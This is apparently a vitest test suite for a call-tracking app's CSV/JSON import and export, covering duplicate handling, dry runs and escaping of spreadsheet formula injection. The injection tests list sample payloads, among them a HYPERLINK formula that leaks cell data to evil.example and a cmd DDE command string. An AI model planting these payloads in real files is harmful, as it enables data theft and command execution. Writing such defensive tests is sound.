import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { ExportRows, ImportProblem, ImportResult } from '#shared/schemas/transfer.ts';
import { bodyAs, createTestApp, type TestApp, type TestUser } from '../support/app.ts';
import { NOW, counts, csvOf, csvRow, postCsv, postJson, seedStory } from './transfer-support.ts';

const contentType = { csv: 'text/csv', json: 'application/json' } as const;

async function exportOf(user: TestUser, format: 'csv' | 'json', query = '') {
  return (await user.request(`/api/export?format=${format}${query}`)).arrayBuffer();
}

async function importFile(user: TestUser, format: 'csv' | 'json', file: ArrayBuffer | string, query = '') {
  const res = await user.request(`/api/import${query}`, { method: 'POST', body: file, headers: { 'content-type': contentType[format] } });
  return { status: res.status, body: res.ok ? await bodyAs(res, ImportResult) : undefined, res };
}

async function storyApp() {
  const t = await createTestApp({ now: NOW });
  const analyst = await t.createUser('analyst');
  await seedStory(t, analyst);
  return { t, analyst };
}

describe('import is repeatable', async () => {
  const { t, analyst } = await storyApp();

  for (const format of ['csv', 'json'] as const) {
    it(`takes the app's own export back as "nothing new" (${format})`, async () => {
      const before = await counts(t);
      const again = await importFile(analyst, format, await exportOf(analyst, format));
      expect(again.status, await again.res.clone().text()).toBe(200);
      expect(again.body).toEqual({ dryRun: false, rows: 4, created: { calls: 0, ministries: 0, officials: 0 }, skipped: { calls: 4 } });
      expect(await counts(t)).toEqual(before);
    });

    it(`imports an export into another database once: the second time creates nothing (${format})`, async () => {
      const file = await exportOf(analyst, format);
      const target = await createTestApp({ now: NOW });
      const importer = await target.createUser('analyst');
      const first = await importFile(importer, format, file);
      expect(first.status).toBe(201);
      expect(first.body).toMatchObject({ created: { calls: 4, ministries: 5, officials: 5 }, skipped: { calls: 0 } });
      const stored = await counts(target);
      const second = await importFile(importer, format, file);
      expect(second.status).toBe(200);
      expect(second.body).toMatchObject({ created: { calls: 0, ministries: 0, officials: 0 }, skipped: { calls: 4 } });
      expect(await counts(target)).toEqual(stored);
    });
  }

  it('refuses a row whose id is stored with other content, naming each cell that differs, and stores nothing', async () => {
    const rows = parse(new TextDecoder().decode(await exportOf(analyst, 'csv')), { bom: true, columns: true }) as Record<string, string>[];
    const lavrov = rows.find((r) => r.calleeName === 'Sergei Lavrov')!;
    const changed = { ...lavrov, status: 'returned', respondedAt: '2013-02-14T10:00:00.000Z', topic: 'Another topic' };
    const fresh = csvRow({ topic: 'A genuinely new call' });
    const before = await counts(t);
    const res = await postCsv(analyst, csvOf([fresh, rows[0]!, changed]));
    expect(res.status).toBe(422);
    const problem = await bodyAs(res, ImportProblem);
    expect(problem.errors!.map((e) => `${e.line}:${e.column}`)).toEqual(['4:topic', '4:status', '4:respondedAt']);
    expect(problem.errors![1]!.message).toBe('differs from the call already stored with this id (stored: "awaiting")');
    expect(problem.errors![2]!.message).toBe('differs from the call already stored with this id (stored: empty)');
    expect(await counts(t)).toEqual(before);
  });

  it('skips a row without an id that matches a stored call on caller, callee, placedAt and topic; any other difference is a new call', async () => {
    const story = { placedAt: '2013-02-13T10:00:00Z', topic: 'North Korea nuclear test' };
    const res = await postCsv(
      analyst,
      csvOf([
        csvRow(story), // Kerry → Lavrov, as stored: a duplicate
        csvRow({ ...story, placedAt: '2013-02-13T11:00:00+01:00', status: 'returned', respondedAt: '2013-02-15T10:00:00Z', notes: 'other notes' }), // the same instant, other outcome: still a duplicate
        csvRow({ ...story, topic: 'north korea nuclear test' }), // the topic differs in case: new
        csvRow({ ...story, placedAt: '2013-02-13T10:00:01Z' }), // a second later: new
        csvRow({ ...story, calleeName: 'Wang Yi', calleeMinistry: "Ministry of Foreign Affairs of the People's Republic of China", calleeCountry: 'CN', calleeMinistryShortName: 'MFA China' }), // another callee: new
      ]),
    );
    expect(res.status, await res.clone().text()).toBe(201);
    expect(await bodyAs(res, ImportResult)).toMatchObject({ rows: 5, created: { calls: 3 }, skipped: { calls: 2 } });
  });

  it('takes rows in file order: a repeated row is skipped, a repeated id is skipped when equal and refused when not', async () => {
    const before = await counts(t);
    const id = '7f1a2b3c-0000-4000-8000-000000000001';
    const same = csvRow({ topic: 'Twice in one file', placedAt: '2013-02-16T08:00:00Z' });
    const withId = csvRow({ id, topic: 'Id twice', placedAt: '2013-02-16T09:00:00Z' });
    const ok = await postCsv(analyst, csvOf([same, same, withId, withId]));
    expect(ok.status, await ok.clone().text()).toBe(201);
    expect(await bodyAs(ok, ImportResult)).toMatchObject({ created: { calls: 2 }, skipped: { calls: 2 } });
    expect((await counts(t)).calls).toBe(before.calls + 2);

    const other = csvRow({ id: '7f1a2b3c-0000-4000-8000-000000000002', topic: 'Id twice, changed', placedAt: '2013-02-16T10:00:00Z' });
    const refused = await postCsv(analyst, csvOf([other, { ...other, channel: 'video' }]));
    expect(refused.status).toBe(422);
    expect((await bodyAs(refused, ImportProblem)).errors!.map((e) => `${e.line}:${e.column}`)).toEqual(['3:channel']);
    expect((await counts(t)).calls).toBe(before.calls + 2);
  });

  it('keeps a row’s id, on both databases', async () => {
    const id = 'imported-call-0001';
    const res = await postJson(analyst, [{ ...csvRow({ topic: 'With my own id', placedAt: '2013-02-17T08:00:00Z' }), id }]);
    expect(res.status, await res.clone().text()).toBe(201);
    const call = await analyst.request(`/api/calls/${id}`);
    expect(call.status).toBe(200);
    expect(((await call.json()) as { topic: string }).topic).toBe('With my own id');
  });
});

describe('a dry run', async () => {
  const { t, analyst } = await storyApp();

  async function snapshot(app: TestApp) {
    return { counts: await counts(app), rows: await bodyAs(await analyst.request('/api/export?format=json'), ExportRows) };
  }

  it('reports what the import would create and skip, and stores nothing', async () => {
    const before = await snapshot(t);
    const file = csvOf([
      csvRow({ placedAt: '2013-02-13T10:00:00Z', topic: 'North Korea nuclear test' }), // stored already
      csvRow({ topic: 'New one' }),
      csvRow({ topic: 'New one' }), // the same again
      csvRow({ topic: 'To a new minister', calleeName: 'Laurent Fabius', calleeTitle: 'Minister', calleeTimeZone: 'Europe/Paris', calleeMinistry: 'Ministère des Affaires étrangères', calleeMinistryShortName: 'MAE France', calleeCountry: 'FR' }),
    ]);
    const dry = await postCsv(analyst, file, '?dryRun=true');
    expect(dry.status, await dry.clone().text()).toBe(200);
    const preview = await bodyAs(dry, ImportResult);
    expect(preview).toEqual({ dryRun: true, rows: 4, created: { calls: 2, ministries: 1, officials: 1 }, skipped: { calls: 2 } });
    expect(await snapshot(t)).toEqual(before);

    // The real import does exactly what the dry run said.
    const real = await postCsv(analyst, file);
    expect(real.status).toBe(201);
    expect(await bodyAs(real, ImportResult)).toEqual({ ...preview, dryRun: false });
    expect((await counts(t)).calls).toBe(before.counts.calls + 2);
  });

  it('refuses a bad file exactly as the import would', async () => {
    const before = await counts(t);
    const res = await postCsv(analyst, csvOf([csvRow({ channel: 'fax' })]), '?dryRun=true');
    expect(res.status).toBe(422);
    expect((await bodyAs(res, ImportProblem)).errors!.map((e) => `${e.line}:${e.column}`)).toEqual(['2:channel']);
    expect(await counts(t)).toEqual(before);
  });

  it('takes only true or false', async () => {
    const res = await postCsv(analyst, csvOf([csvRow()]), '?dryRun=yes');
    expect(res.status).toBe(400);
  });
});

describe('CSV formula injection', async () => {
  const t = await createTestApp({ now: NOW });
  const analyst = await t.createUser('analyst');
  const p = await seedStory(t, analyst);
  const dangerous = [
    ['=HYPERLINK("http://evil.example/?"&A1,"Click")', 'notes'],
    ['+cmd|\' /C calc\'!A0', 'notes'],
    ['-2+3', 'notes'],
    ['@SUM(A1:A9)', 'notes'],
    ['\tleading tab', 'notes'],
    ['\rleading return', 'notes'],
    ["'=already quoted", 'notes'],
    ["''+two quotes", 'notes'],
    ["'90s, a quote before plain text", 'notes'],
    ["'", 'notes'],
    ['=1+1', 'topic'],
    ['@channel', 'source'],
  ] as const;
  for (const [i, [text, field]] of dangerous.entries()) {
    const json = { callerId: p.officials.kerry.id, calleeId: p.officials.yang.id, placedAt: `2013-02-15T0${Math.floor(i / 10)}:0${i % 10}:00Z`, channel: 'phone', topic: 'Formula test', notes: 'Formula test', [field]: text };
    const res = await analyst.request('/api/calls', { method: 'POST', json });
    expect(res.status, await res.clone().text()).toBe(201);
  }

  it('writes no cell a spreadsheet would run as a formula', async () => {
    const text = new TextDecoder().decode(await exportOf(analyst, 'csv', '&q=Formula'));
    const cells = (parse(text, { bom: true }) as string[][]).slice(1).flat();
    for (const cell of cells) expect(cell, JSON.stringify(cell)).not.toMatch(/^[=+\-@\t\r]/);
    expect(cells).toContain('\'=HYPERLINK("http://evil.example/?"&A1,"Click")');
    expect(cells).toContain("'\tleading tab");
    expect(cells).toContain("''=already quoted");
    expect(cells).toContain("'''+two quotes");
    // Text that a quote does not turn into a formula is left as it is.
    expect(cells).toContain("'90s, a quote before plain text");
    expect(cells).toContain("'");
    // JSON is not a spreadsheet format: nothing is escaped there.
    const rows = await bodyAs(await analyst.request('/api/export?format=json&q=Formula'), ExportRows);
    expect(rows.map((r) => r.notes)).toContain('=HYPERLINK("http://evil.example/?"&A1,"Click")');
  });

  it('gives back exactly the same text when the export is imported again', async () => {
    const file = await exportOf(analyst, 'csv', '&q=Formula');
    const target = await createTestApp({ now: NOW });
    const importer = await target.createUser('analyst');
    const first = await importFile(importer, 'csv', file);
    expect(first.status, await first.res.clone().text()).toBe(201);
    const original = await bodyAs(await analyst.request('/api/export?format=json&q=Formula'), ExportRows);
    expect(await bodyAs(await importer.request('/api/export?format=json'), ExportRows)).toEqual(original);
    // And, with the same ids and text, into the database it came from: nothing differs.
    expect((await importFile(analyst, 'csv', file)).body).toMatchObject({ created: { calls: 0 }, skipped: { calls: dangerous.length } });
  });
});
